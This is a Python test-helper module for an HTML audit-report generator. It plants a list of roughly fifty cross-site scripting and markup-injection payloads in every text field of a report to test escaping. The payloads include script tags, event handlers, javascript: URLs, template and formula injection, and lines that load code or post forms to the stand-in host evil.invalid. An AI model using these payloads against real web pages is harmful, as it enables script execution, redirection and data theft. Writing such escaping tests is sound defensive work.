"""Text that strangers have smuggled into pages, in every text of a result, and a reader of pages."""

import re
from collections import defaultdict
from dataclasses import replace
from html.parser import HTMLParser

from audit.claims import PureDP
from audit.report.page import build_report
from audit.report.words import LONGEST
from audit.results import ONE_RUN
from tests.helpers import audited, estimated, replayed

# What people have smuggled into pages through names: each would set `pwned`, ask for an address, or take over the page.
PAYLOADS = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src='data:text/javascript,window.pwned=1'></script>",
    "<img src=x onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=window.pwned=1>#a'/></svg>",
    "<svg><foreignObject><iframe src=javascript:window.pwned=1></foreignObject></svg>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</details></section></main><script>window.pwned=1</script>",
    "<style>@import '//evil.invalid/a.css';</style>",
    "<style>*{background:url(//evil.invalid/b.png)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.invalid/c.png)'>covered</p>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid/><button>send</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<details open ontoggle=window.pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<a href=javascript:window.pwned=1>here</a>",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    '" onmouseover="window.pwned=1',
    '"><script>window.pwned=1</script>',
    "` onmouseover=`window.pwned=1",
    "x onmouseover=window.pwned=1 y",
    "<!--><script>window.pwned=1</script>-->",
    "--><script>window.pwned=1</script><!--",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<slot name=pwned></slot><x-pwned is=x-y></x-pwned>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#x3c;img src=x onerror=window.pwned=1&#x3e",
    "{{ 7 * 191 }}{% for x in y %}{# pwned #}",
    "${window.pwned=1} #{window.pwned=1} <%= window.pwned=1 %>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}window.pwned=1",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "<scr\x00ipt>window.pwned=1</script>",
    "\ufeff<script>window.pwned=1</script>",
    "total\u202egnp.stnuoc\u2066 \u200b\u2028",
    "<a\x0chref=\x01javascript:window.pwned=1>\r\nx</a>\x1b[2J",
    "a\u0300" + "\u0301" * 40,
    "\ud800<script>window.pwned=1</script>",
    "A" * (LONGEST + 500) + "<script>window.pwned=1</script>",
]
# Kinds of injections, each known by what stands in a text; the first that fits is its kind.
KINDS = {
    "template": r"\{\{|[$#]\{|<%|\{%",
    "attribute": r"[\"'`] ?on\w+=|^x on\w+=",
    "script": r"(?i)scr.*ipt|javascript|\bon\w+=",
    "address": r"//|url\(|http",
    "markup": r"<|&#?\w+;",
    "escape sequence": "[\x1b\x90-\x9f]",
    "direction of letters": "[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]",
    "letters without width": "[\u200b-\u200d\u2060\ufeff\u00ad\u180e\U000e0000-\U000e007f]",
    "new line": "[\n\r\x0b\x0c\x85\u2028\u2029]",
    "control": "[\x00-\x1f\x7f-\x9f]",
    "half a letter": "[\ud800-\udfff]",
    "marks without end": "[\u0300-\u036f]{9}",
    "formula": '^[ \'"]*[=+@\uff20\u2212-]|[;,]"?=',
    "Markdown": r"[|`*_#\[\]~]",
    "other letters": "",
}


def by_kind(texts):
    """Texts by the kind of their injection: what is counted, with the places where each is tried."""
    kinds = defaultdict(list)
    for words in texts:
        kinds[next(kind for kind, sign in KINDS.items() if re.search(sign, words))].append(words)
    return dict(kinds)


TAGS = {
    *("blockquote", "html", "head", "meta", "title", "style", "body", "header", "main", "section", "footer", "nav"),
    *("h1", "h2", "h3", "h4", "p", "a", "b", "small", "strong", "code", "pre", "bdi", "span", "div", "ul", "ol", "li"),
    *("dl", "dt", "dd", "figure", "figcaption", "table", "caption", "thead", "tbody", "tr", "th", "td", "details"),
    *("article", "summary", "svg", "desc", "rect", "line", "path", "text", "polygon", "polyline"),
}


class Page(HTMLParser):
    """What a page consists of: its tags and attributes, its text."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.pieces = set(), set(), []
        self.feed(page)
        self.close()
        self.text = "".join(self.pieces)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(name, value) for name, value in attrs}

    def handle_data(self, data):
        self.pieces.append(data)

    def values(self, name):
        return {value for key, value in self.attributes if key == name}


def planted(words, **changes):
    """An audit in which every text is `words`, down to the keys."""
    result = audited(
        **{name: words for name in ("mechanism", "event", "searched", "pair", "bound", "attack")},
        tried=(words,),
        notes=(words,),
        claim=PureDP(1.0),
        measured=PureDP(2.0),
        verdict="violated",
        counts={side: {"runs": 9, words: 3, "guessed_y": 2} for side in ("x", "y", words)},
        support={"order": words, "probability": 0.25},
        provenance={
            "software": {"plaudit": words, words: words},
            "python": words,
            "platform": words,
            "created": words,
            "command": words,
            "parameters": {"size": words, words: {words: [words]}, "stop": words},
            words: words,
        },
        basis={words: words},
    )
    return replace(result, **changes)


def planted_estimate(words):
    return estimated(method=words, statistic=words, assumptions=(words, words), settings={words: words, "lag": [words]})


def planted_replay(words):
    violations = ({"kind": words, "sentence": words},)
    return replayed(mechanism=words, pair=words, violations=violations, notes=(words,), provenance={"created": words})


def hostile_page(payloads, **options):
    """A page in which every payload is in every text of audits, estimates and replays, with and without a command."""
    results = [(words, planted(words)) for words in payloads]
    results += [
        (words, planted(words, provenance={"parameters": {"share": words}}, bound=ONE_RUN)) for words in payloads[::3]
    ]
    others = [(words, planted_estimate(words)) for words in payloads]
    replays = [(words, planted_replay(words)) for words in payloads]
    return build_report(results, others, replays, **{"title": " ".join(payloads)[:4000]} | options)


def page_of(audits=(), estimates=(), replays=(), **options):
    """A page of results that needs no other title."""
    return build_report(audits, estimates, replays, **{"title": "t"} | options)


def body(page):
    return page.partition("</style>")[2]
